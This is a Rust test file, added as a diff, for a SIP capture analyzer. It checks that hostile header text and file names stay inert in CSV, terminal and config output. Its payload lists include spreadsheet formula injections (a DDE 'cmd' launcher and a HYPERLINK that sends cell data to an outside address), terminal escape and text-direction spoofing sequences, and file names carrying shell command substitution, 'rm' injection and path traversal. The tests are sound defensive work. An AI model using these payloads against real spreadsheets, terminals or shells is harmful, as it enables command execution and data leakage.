@@ -1,0 +1,316 @@
+//! Output that can't bite: what strangers wrote in headers and names runs neither in a spreadsheet nor in a terminal, and
+//! every file is read back by another program.
+#![expect(clippy::print_stdout, reason = "what is skipped is told")]
+
+#[path = "support/mod.rs"]
+mod support;
+
+use std::net::SocketAddr;
+use std::process::Command;
+use std::process::Output;
+
+use support::capture_file::Format;
+use support::capture_file::render;
+use support::place::Place;
+use support::place::code;
+use support::place::err;
+use support::place::out;
+use support::wire::Link;
+use support::wire::Packet;
+use support::wire::Wire;
+use support::wire::frame;
+
+/// What a stranger may write into a header: formulas, ends of cells and lines, terminal sequences, bidirectional controls.
+const POISONS: [&[u8]; 20] = [
+    b"=1+1",
+    b"+cmd|' /C calc'!A0",
+    b"-2+3+cmd|' /C calc'!A0",
+    b"@SUM(1+1)*cmd|' /C calc'!A0",
+    b"=HYPERLINK(\"http://192.0.2.66/?\"&A1,\"click\")",
+    b"\t=1+1",
+    b"\"=1+1",
+    b"\",=1+1,\"",
+    b"\"\"\"\"",
+    b"'=1+1",
+    "\u{ff1d}1+1".as_bytes(),
+    b"a\x00b",
+    b"\x1b[2J\x1b]0;gone\x07",
+    b"\x9b31m",
+    "\u{9b}31m".as_bytes(),
+    b"back\x08\x08\x7f",
+    "safe\u{202e}gpj.exe".as_bytes(),
+    "\u{2066}\u{2069}\u{200f}\u{2028}".as_bytes(),
+    b"\xff\xfe\xc3\x28\xed\xa0\x80",
+    b"a;b;=1+1",
+];
+
+const SBC: &str = "192.0.2.10:5060";
+const TEAMS: &str = "52.114.7.24:5061";
+
+/// A refused call with the poison in every text that reaches a cell.
+fn call(number: usize, poison: &[u8]) -> [Vec<u8>; 2] {
+    let fill = |text: &str| {
+        let mut bytes = Vec::new();
+        for (place, part) in text.split('%').enumerate() {
+            if place > 0 {
+                bytes.extend_from_slice(poison);
+            }
+            bytes.extend_from_slice(part.as_bytes());
+        }
+        bytes
+    };
+    let common = format!(
+        "Via: SIP/2.0/UDP 192.0.2.10;branch=z9hG4bK{number}\r\nFrom: <sip:%@192.0.2.10>;tag=%{number}\r\n\
+         To: <sip:%@sip.pstnhub.microsoft.com>\r\nCall-ID: %{number}\r\nCSeq: 1 INVITE\r\n"
+    );
+    let sdp = "v=0\r\no=- 1 1 IN IP4 192.0.2.10\r\ns=%\r\nc=IN IP4 %\r\nt=0 0\r\nm=audio 4000 RTP/SAVP 0 96\r\n\
+               a=rtpmap:96 %/8000\r\na=crypto:1 % inline:WVNfX19zZW1jdGwgKCkgewkyMjA7fQp9CnVubGVz\r\n";
+    let sdp = fill(sdp);
+    let mut invite = fill(&format!(
+        "INVITE sip:%@sip.pstnhub.microsoft.com SIP/2.0\r\n{common}Contact: <sip:%@%.example.org:5060>\r\n\
+         User-Agent: %\r\nContent-Type: application/sdp\r\nContent-Length: {}\r\n\r\n",
+        sdp.len()
+    ));
+    invite.extend_from_slice(&sdp);
+    let refusal = fill(&format!(
+        "SIP/2.0 488 %\r\n{common}Server: %\r\n\
+         Reason: Q.850;cause=88;text=\"%; 531000 %\"\r\nWarning: 399 % \"%\"\r\nContent-Length: 0\r\n\r\n"
+    ));
+    [invite, refusal]
+}
+
+/// A capture of one such call for each poison.
+fn capture() -> Vec<u8> {
+    let [sbc, teams]: [SocketAddr; 2] = [SBC, TEAMS].map(|end| end.parse().expect("an address"));
+    let mut wire = Wire::counting_from(1);
+    let mut packets = Vec::new();
+    for (number, poison) in POISONS.iter().enumerate() {
+        let [invite, refusal] = call(number, poison);
+        for (from, to, payload) in [(sbc, teams, invite), (teams, sbc, refusal)] {
+            for packet in wire.datagram(from, to, &payload, 1500) {
+                packets.push(Packet {
+                    time: (1_700_000_000 + packets.len() as u64) * 1_000_000_000,
+                    bytes: frame(Link::Ethernet, from.ip(), to.ip(), &packet),
+                    cut: None,
+                    link: Link::Ethernet,
+                    file: 0,
+                });
+            }
+        }
+    }
+    render(Format::Pcap, &packets.iter().collect::<Vec<_>>())
+}
+
+/// Runs Python in the folder; none where there is none.
+fn python(place: &Place, program: &str) -> Option<Output> {
+    let mut command = Command::new("python3");
+    let run = command
+        .args(["-c", program])
+        .current_dir(place.path(""))
+        .output();
+    if run.is_err() {
+        println!("skipped: python3 is not installed here");
+    }
+    run.ok()
+}
+
+fn analyzed() -> Place {
+    let place = Place::new();
+    place.put("a.pcap", &capture());
+    let output = place.run(&[
+        "analyze",
+        "-q",
+        "a.pcap",
+        "-o",
+        "calls.csv",
+        "--rejections",
+        "rejections.csv",
+        "--trunk-report",
+        "trunks.csv",
+        "--summary",
+        "s.json",
+    ]);
+    assert_eq!(code(&output), Some(0), "{}", err(&output));
+    place
+}
+
+/// What may be seen of a byte string in a terminal: no control character but the ends of lines, no change of direction.
+fn assert_harmless_to_terminals(shown: &str) {
+    let is_harmful = |character: &char| {
+        character.is_control() && !"\r\n".contains(*character)
+            || "\u{200e}\u{200f}\u{61c}\u{2028}\u{2029}".contains(*character)
+            || ('\u{202a}'..='\u{202e}').contains(character)
+            || ('\u{2066}'..='\u{2069}').contains(character)
+    };
+    let harmful = shown.chars().find(is_harmful);
+    assert_eq!(harmful, None, "{shown:?}");
+}
+
+#[test]
+fn python_reads_every_cell_and_none_is_a_formula() {
+    let place = analyzed();
+    let read = python(
+        &place,
+        r#"
+import csv, re
+for name, least in (("calls.csv", 20), ("rejections.csv", 20), ("trunks.csv", 2)):
+    with open(name, encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file, strict=True))
+    assert len(rows) > least, (name, len(rows))
+    for row in rows:
+        assert len(row) == len(rows[0]), (name, len(row), row)
+        for cell in row:
+            number = re.fullmatch(r"[+-]?[0-9(. ][0-9 ().-]*", cell)
+            assert number or not re.match(r"[=+@\t\r\n\uff1d\uff0b\uff0d\uff20-]", cell), (name, cell)
+            assert "\0" not in cell, (name, cell)
+    text = open(name, encoding="utf-8", newline="").read()
+    assert text.startswith(",".join(rows[0]) + "\r\n") and text.endswith("\r\n"), name
+"#,
+    );
+    if let Some(read) = read {
+        assert!(read.status.success(), "{}", err(&read));
+    }
+}
+
+#[test]
+fn each_poison_is_in_its_cells_as_it_was_written() {
+    let place = analyzed();
+    let mut reader = csv::Reader::from_path(place.path("calls.csv")).expect("a table");
+    let names = reader.headers().expect("a header").clone();
+    let column = |name| {
+        names
+            .iter()
+            .position(|column| column == name)
+            .expect("a column")
+    };
+    let rows: Vec<_> = reader.records().map(|row| row.expect("a row")).collect();
+    assert_eq!(rows.len(), POISONS.len());
+    for poison in POISONS {
+        let text = String::from_utf8_lossy(poison).replace('\0', "\u{fffd}");
+        let (agent, server) = (column("user_agent"), column("server"));
+        let is_told =
+            |cell: &str| cell.strip_prefix('\'').unwrap_or(cell) == text.trim() || cell == text;
+        let found = rows
+            .iter()
+            .any(|row| is_told(&row[agent]) && is_told(&row[server]));
+        assert!(found, "{text:?}");
+    }
+}
+
+#[test]
+fn nothing_on_standard_error_drives_a_terminal() {
+    let place = Place::new();
+    place.put("a.pcap", &capture());
+    place.put("\u{1b}[2J\u{202e}.pcap", b"no capture");
+    let output = place.run(&[
+        "analyze",
+        "a.pcap",
+        "\u{1b}[2J\u{202e}.pcap",
+        "-o",
+        "calls.csv",
+    ]);
+    assert_eq!(code(&output), Some(1));
+    assert!(err(&output).contains("\\u{1b}"), "{}", err(&output));
+    assert_harmless_to_terminals(&err(&output));
+}
+
+#[test]
+fn a_table_on_a_terminal_drives_nothing() {
+    let place = Place::new();
+    place.put("a.pcap", &capture());
+    let program = assert_cmd::cargo::cargo_bin("sip488");
+    let output = Command::new("script")
+        .args([
+            "-qec",
+            &format!("{} analyze -q a.pcap", program.display()),
+            "/dev/null",
+        ])
+        .current_dir(place.path(""))
+        .output();
+    let Ok(output) = output else {
+        println!("skipped: script is not installed here");
+        return;
+    };
+    assert!(out(&output).contains("531000"), "{}", out(&output));
+    assert_harmless_to_terminals(&out(&output));
+    // To a file or a pipe goes what was written.
+    let piped = place.run(&["analyze", "-q", "a.pcap"]);
+    assert!(out(&piped).contains("\u{1b}[2J"));
+}
+
+#[test]
+fn a_draft_of_a_configuration_is_sound_whatever_trunks_are_called() {
+    let place = Place::new();
+    place.put("a.pcap", &capture());
+    let output = place.run(&["config", "init", "a.pcap", "-o", "trunks.toml"]);
+    assert_eq!(code(&output), Some(0), "{}", err(&output));
+    assert_harmless_to_terminals(&place.read("trunks.toml"));
+    let checked = place.run(&["config", "check", "trunks.toml"]);
+    assert_harmless_to_terminals(&out(&checked));
+    assert_harmless_to_terminals(&err(&checked));
+    let read = python(
+        &place,
+        "import sys\ntry: import tomllib\nexcept ImportError: sys.exit(0)\ntomllib.load(open('trunks.toml', 'rb'))",
+    );
+    if let Some(read) = read {
+        assert!(read.status.success(), "{}", err(&read));
+    }
+}
+
+#[test]
+fn python_reads_the_summary() {
+    let place = analyzed();
+    let read = python(
+        &place,
+        "import json\ns = json.load(open('s.json', encoding='utf-8'))\nassert s['files'][0]['packets'] >= 40, s['files']",
+    );
+    if let Some(read) = read {
+        assert!(read.status.success(), "{}", err(&read));
+    }
+}
+
+/// Names that a shell, a spreadsheet or a path would take for more than a name.
+const NAMES: [&str; 9] = [
+    "=1+1.pcap",
+    "-rf.pcap",
+    "$(touch gone).pcap",
+    "..\\..\\gone.pcap",
+    "a,b\"c.pcap",
+    "a\nb.pcap",
+    "\u{202e}pacp.exe.pcap",
+    "@x.pcap",
+    "'; rm -r x.pcap",
+];
+
+#[test]
+fn names_are_names_and_nothing_is_written_where_they_point() {
+    let place = Place::new();
+    for name in NAMES {
+        place.put(&format!("night/{name}"), &capture());
+    }
+    let before = place.names();
+    let output = place.run(&["analyze", "night", "-o", "calls.csv"]);
+    assert_eq!(code(&output), Some(0), "{}", err(&output));
+    assert_harmless_to_terminals(&err(&output));
+    let mut names = place.names();
+    names.retain(|name| name != "calls.csv");
+    assert_eq!(names, before);
+    let mut reader = csv::Reader::from_path(place.path("calls.csv")).expect("a table");
+    let header = reader.headers().expect("a header");
+    let file = header
+        .iter()
+        .position(|name| name == "file")
+        .expect("a column");
+    for row in reader.records() {
+        let row = row.expect("a row");
+        assert!(row[file].starts_with("night/"), "{}", &row[file]);
+    }
+    // Named alone, a path may begin as a formula does.
+    let folder = place.path("night");
+    let output = Command::new(assert_cmd::cargo::cargo_bin("sip488"))
+        .current_dir(folder)
+        .args(["analyze", "-q", "=1+1.pcap"])
+        .output()
+        .expect("the program runs");
+    assert!(out(&output).contains(",'=1+1.pcap,"), "{}", out(&output));
+}
